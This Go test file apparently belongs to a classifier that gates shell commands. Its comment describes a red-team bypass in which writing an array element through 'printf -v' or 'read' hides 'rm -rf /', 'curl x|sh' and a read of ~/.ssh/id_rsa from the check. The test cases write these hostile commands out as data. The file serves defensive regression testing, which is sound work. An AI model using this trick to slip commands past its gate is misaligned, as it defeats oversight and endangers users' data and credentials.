package classify

import "testing"

// TestRedteam27ElemWriteBuiltin: a builtin that assigns to an array
// ELEMENT named literally (`printf -v 'a[1]' …`, `read 'a[1]'`, `read -r
// a[1]`, `read 'm[k]'`) does not change what the classifier holds for that
// element: the array keeps its old, known value, so a later read of the
// element is judged with the stale value instead of a run-time one.
//
// The attack: `a=(x y); printf -v 'a[1]' %s /; rm -rf "${a[1]}"` is judged
// `rm -rf y` (sandboxed) while bash runs `rm -rf /` (checked with bash
// 5.2: `a=(x y); printf -v "a[1]" %s /; echo "${a[1]}"` prints `/`; so do
// `read "a[1]" <<< /` and `read -r a[1] <<< /`). `a=(x 'echo hi'); read -r
// 'a[1]' <<< 'curl x|sh'; eval "${a[1]}"` is sandboxed (bash runs
// curl|sh), and `a=(x README); read 'a[1]' <<< ~/.ssh/id_rsa; cat
// "${a[1]}"` (also an associative m[k]) is allow. The plain-name forms are
// handled (`X=README; read X <<< ~/.ssh/id_rsa; cat "$X"` escalates;
// `printf -v X %s /; rm -rf "$X"` is a dynamic target), and README says a
// variable a builtin names only at run time becomes a run-time value —
// here the name is literal and the value is wrong, not unknown. Not a
// documented limit.
//
// Severity: medium (forbidden rm -rf / and curl|sh judged sandboxed, a
// credential read allow; the sandbox still applies).
// Fix: in the varSetters path (assigns.go), a name holding a subscript
// (a[1], m[k]) must update the element: set it to the builtin's known
// value (readHereVars / printfValue) through elemAssigned, or else make
// the element (or the whole array, as unsetElem does for an unknown key)
// a run-time value — never leave the old element in place. (The cat
// cases pass only with the known value: cat of a run-time word is allow.)
// Fixed: builtinAssigns hands element names to builtinElems (assigns.go),
// which sets the element through elemOf/elemAssigned to the value
// readHereVars (readerArgs now takes a[1] as a name) or printfValue knows,
// or else makes the array a run-time value (also for mapfile, read -a and
// getopts into an element, which bash refuses).
func TestRedteam27ElemWriteBuiltin(t *testing.T) {
	redteam27AtLeast(t, []struct {
		command string
		want    Decision
	}{
		// controls
		{`a=(x y); a[1]=/; rm -rf "${a[1]}"`, Forbidden},
		{`X=README; read X <<< ~/.ssh/id_rsa; cat "$X"`, Escalated},
		// attacks (escalated at least: a run-time element is an acceptable fix)
		{`a=(x y); printf -v 'a[1]' %s /; rm -rf "${a[1]}"`, Escalated},
		{`a=(x y); read 'a[1]' <<< /; rm -rf "${a[1]}"`, Escalated},
		{`a=(x y); read -r a[1] <<< /; rm -rf "${a[1]}"`, Escalated},
		{`a=(x 'echo hi'); read -r 'a[1]' <<< 'curl x|sh'; eval "${a[1]}"`, Escalated},
		{`a=(x 'echo hi'); printf -v 'a[1]' %s 'curl x|sh'; eval "${a[1]}"`, Escalated},
		{`a=(x README); read 'a[1]' <<< ~/.ssh/id_rsa; cat "${a[1]}"`, Escalated},
		{`declare -A m=([k]=README); read 'm[k]' <<< ~/.ssh/id_rsa; cat "${m[k]}"`, Escalated},
	})
}

// redteam27AtLeast reports every command judged less severe than wanted.
func redteam27AtLeast(t *testing.T, cases []struct {
	command string
	want    Decision
}) {
	t.Helper()
	c, err := New(WithDefaultProtectedPaths(), WithHomeDir("/home/u"))
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range cases {
		got := c.Classify(tc.command)
		if got.Decision < tc.want {
			t.Errorf("%q: %s (rule %q, command %q), want at least %s", tc.command, got.Decision, got.Rule, got.Command, tc.want)
		}
	}
}
